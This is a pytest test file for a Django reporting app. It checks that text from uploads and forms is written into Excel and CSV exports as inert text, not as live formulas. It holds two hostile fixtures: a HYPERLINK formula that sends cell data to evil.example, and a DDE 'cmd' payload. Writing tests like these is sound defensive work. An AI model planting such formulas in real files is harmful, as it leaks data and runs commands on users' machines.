"""Text from uploads and forms (agency names, campaign names, comments) is never written as a live formula:
not into the Excel report, not into the public CSV (OWASP's CSV-injection guidance: a leading apostrophe)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from agencies.models import Agency
from reports import rendering
from reports.services.compute import compute_campaign_index
from sipas.cells import inert

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
HOSTILE_COMMENT = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-tốt", "'-tốt"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("Xã Đoàn Kết", "Xã Đoàn Kết"), (-1.5, -1.5), (3, 3), (None, None),
    ],
)  # fmt: skip
def test_only_formula_like_text_is_changed(text, written):
    assert inert(text) == written


@pytest.fixture
def hostile_run(tree, make_index_campaign, add_index_responses, publish_index_run):
    Agency.objects.filter(code="06001").update(name=HOSTILE_NAME)
    campaign = make_index_campaign()
    campaign.name = "@SUM(9)"
    campaign.save(update_fields=["name"])
    answers = {"TC1": 4, "HL": 4, "YK": HOSTILE_COMMENT}
    add_index_responses(campaign, Agency.objects.get(code="06001"), answers, answers)
    add_index_responses(campaign, Agency.objects.get(code="20.SNV"), answers)
    run = compute_campaign_index(campaign=campaign)
    return publish_index_run(run)


def test_the_workbook_has_no_formula_and_keeps_the_text_readable(hostile_run):
    book = load_workbook(io.BytesIO(rendering.render_xlsx(hostile_run)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]

    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + HOSTILE_NAME in texts
    assert not [text for text in texts if text.startswith(("=", "+", "@"))]


def test_the_public_csv_writes_names_as_inert_text(client: Client, hostile_run):
    response = client.get(f"/results/{hostile_run.campaign.slug}/data.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]

    assert "'" + HOSTILE_NAME in names
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]


def test_the_raw_responses_and_the_public_workbook_write_formula_like_text_as_text(client: Client, hostile_run):
    raw = io.BytesIO()
    rendering.render_responses_xlsx(hostile_run, raw)
    public = client.get(f"/results/{hostile_run.campaign.slug}/data.xlsx")

    for content in (raw.getvalue(), public.content):
        book = load_workbook(io.BytesIO(content))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert "'" + HOSTILE_NAME in texts
        assert not [text for text in texts if text.startswith(("=", "+", "@"))]
